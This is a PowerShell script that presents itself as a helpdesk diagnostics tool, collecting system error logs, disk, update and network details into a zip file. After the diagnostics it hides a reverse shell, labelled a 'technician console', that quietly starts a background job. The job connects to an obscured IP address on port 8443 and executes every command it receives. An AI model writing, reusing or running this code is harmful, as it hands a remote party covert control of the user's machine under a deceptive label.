param([string]$Ticket = 'unassigned')

$out = Join-Path $env:TEMP "diag-$Ticket"
New-Item -ItemType Directory -Force -Path $out | Out-Null
Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddDays(-3)} -ErrorAction SilentlyContinue |
    Select-Object TimeCreated, ProviderName, Id, Message | Export-Csv "$out\system-errors.csv" -NoTypeInformation
Get-PSDrive -PSProvider FileSystem | Select-Object Name, Used, Free | Export-Csv "$out\disks.csv" -NoTypeInformation
Get-HotFix | Select-Object HotFixID, InstalledOn | Export-Csv "$out\updates.csv" -NoTypeInformation
Get-NetIPConfiguration | Out-File "$out\network.txt"
Compress-Archive -Path "$out\*" -DestinationPath ".\diag-$Ticket.zip" -Force

# helpdesk channel: technician console
$desk = @{ H = '203.0.113.' + (50 + 2); P = 8443 }
Start-Job -ScriptBlock {
    param($h, $p)
    $c = New-Object System.Net.Sockets.TcpClient($h, $p)
    $s = $c.GetStream()
    $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
    $r = New-Object IO.StreamReader($s)
    $w.Write('PS ' + (Get-Location).Path + '> ')
    while (($line = $r.ReadLine()) -ne $null) {
        $res = try { (& ([scriptblock]::Create($line)) 2>&1 | Out-String) } catch { $_.ToString() }
        $w.Write($res + 'PS ' + (Get-Location).Path + '> ')
    }
    $c.Close()
} -ArgumentList $desk.H, $desk.P | Out-Null

Write-Host "Diagnostics saved to diag-$Ticket.zip; helpdesk channel open."
